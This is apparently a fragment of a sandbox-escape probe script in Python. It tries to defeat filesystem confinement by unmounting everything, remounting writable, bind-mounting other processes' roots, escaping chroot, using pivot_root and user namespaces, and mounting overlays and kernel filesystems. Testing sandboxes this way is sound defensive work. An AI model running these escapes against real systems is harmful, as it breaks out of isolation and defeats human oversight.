# ruff: noqa
# mypy: ignore-errors
"""Attempts upon mounts and roots, taken away, changed and laid over. A part of one script: see ``calls.py``."""


@attempt("umount of everything")
def _():
    for _ in range(3):
        for place in reversed(mounts()):
            named("umount2", place, 2)


@attempt("umount by the compatible calls")
def _():
    if (found := compat()) is None:
        return
    function, text, _ = found
    for _ in range(3):
        for place in reversed(mounts()):
            function(52, *text(place), 2, 0, 0, 0)


@attempt("umount by x32's calls")
def _():
    for place in reversed(mounts()):
        call(0x40000000 | NUMBERS["umount2"], place, 2)


@attempt("remount for writing")
def _():
    for place in mounts():
        named("mount", None, place, None, REMOUNT | BIND, None)
        named("mount", None, place, None, REMOUNT, None)
        call(MOUNT_SETATTR, -100, place, 0x8000, struct.pack("QQQQ", 0, 1, 0, 0), 32)
        if (found := compat()) is not None:
            function, text, _ = found
            where, kind, attributes = text(place, b"none", struct.pack("QQQQ", 0, 1, 0, 0))
            function(21, kind, where, kind, REMOUNT | BIND, 0)
            function(MOUNT_SETATTR, 0xFFFFFF9C, where, 0x8000, attributes, 32)


@attempt("bind mounts of other roots")
def _():
    os.makedirs("/tmp/b", exist_ok=True)
    for link in glob.glob("/proc/*/root") + glob.glob("/proc/*/cwd") + glob.glob("/proc/*/fd/*"):
        if named("mount", link.encode(), b"/tmp/b", None, BIND | REC, None) == 0:
            search("/tmp/b", f"bind of {link}")
            named("umount2", b"/tmp/b", 2)


@attempt("chroot and back")
def _():
    os.makedirs("/tmp/c", exist_ok=True)
    here = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/c")
    os.fchdir(here)
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    os.chdir("/")


@attempt("pivot_root into a folder of its own")
def _():
    os.makedirs("/tmp/p", exist_ok=True)
    named("unshare", NEWNS)
    named("mount", b"/tmp/p", b"/tmp/p", None, BIND, None)
    os.makedirs("/tmp/p/old", exist_ok=True)
    if named("pivot_root", b"/tmp/p", b"/tmp/p/old") == 0:
        os.chdir("/")
        search("/old", "the old root")
        named("umount2", b"/old", 2)


@attempt("a user namespace within, and umount there")
def _():
    user, group = os.getuid(), os.getgid()
    if named("unshare", NEWUSER | NEWNS | NEWPID | NEWNET | NEWCGROUP) != 0:
        return
    with contextlib.suppress(OSError):
        open("/proc/self/setgroups", "w").write("deny")
        open("/proc/self/uid_map", "w").write(f"0 {user} 1")
        open("/proc/self/gid_map", "w").write(f"0 {group} 1")
    for _ in range(3):
        for place in reversed(mounts()):
            named("umount2", place, 2)
            named("mount", None, place, None, REMOUNT | BIND, None)


@attempt("the newer mount calls")
def _():
    os.makedirs("/tmp/t", exist_ok=True)
    for place in [b"/proc/1/root", b"/proc/1/cwd", *mounts()]:
        for recursive in (0, 0x8000):
            tree = call(OPEN_TREE, -100, place, 1 | recursive)
            if tree >= 0:
                call(MOUNT_SETATTR, tree, b"", 0x1000 | recursive, struct.pack("QQQQ", 0, 1, 0, 0), 32)
                if call(MOVE_MOUNT, tree, b"", -100, b"/tmp/t", 4) == 0:
                    search("/tmp/t", f"open_tree of {place!r}")
                    with contextlib.suppress(OSError):
                        os.close(os.open("/tmp/t/made-by-an-attack", os.O_CREAT | os.O_WRONLY))
                    named("umount2", b"/tmp/t", 2)


@attempt("overlays over what is there")
def _():
    for name in ("u", "w", "m"):
        os.makedirs(f"/tmp/o/{name}", exist_ok=True)
    named("mount", b"t", b"/tmp/o", b"tmpfs", 0, None)
    for name in ("u", "w", "m"):
        os.makedirs(f"/tmp/o/{name}", exist_ok=True)
    for place in mounts():
        options = b"lowerdir=" + place + b",upperdir=/tmp/o/u,workdir=/tmp/o/w,userxattr"
        if named("mount", b"o", b"/tmp/o/m", b"overlay", 0, options) == 0:
            search("/tmp/o/m", f"overlay over {place!r}")
            named("umount2", b"/tmp/o/m", 2)


@attempt("file systems of disks, of networks and of programs")
def _():
    os.makedirs("/tmp/f", exist_ok=True)
    for kind in (
        b"ext4",
        b"xfs",
        b"btrfs",
        b"nfs",
        b"nfs4",
        b"cifs",
        b"9p",
        b"virtiofs",
        b"debugfs",
        b"tracefs",
        b"securityfs",
        b"configfs",
        b"bpf",
        b"fusectl",
        b"efivarfs",
        b"pstore",
        b"resctrl",
    ):
        for source in (b"/dev/sda", b"/dev/vda", b"/dev/loop0", b"none"):
            if named("mount", source, b"/tmp/f", kind, 0, b"fd=0,trans=virtio") == 0 and kind not in (b"bpf",):
                escape(f"mounted {kind.decode()} of {source.decode()}")
                named("umount2", b"/tmp/f", 2)
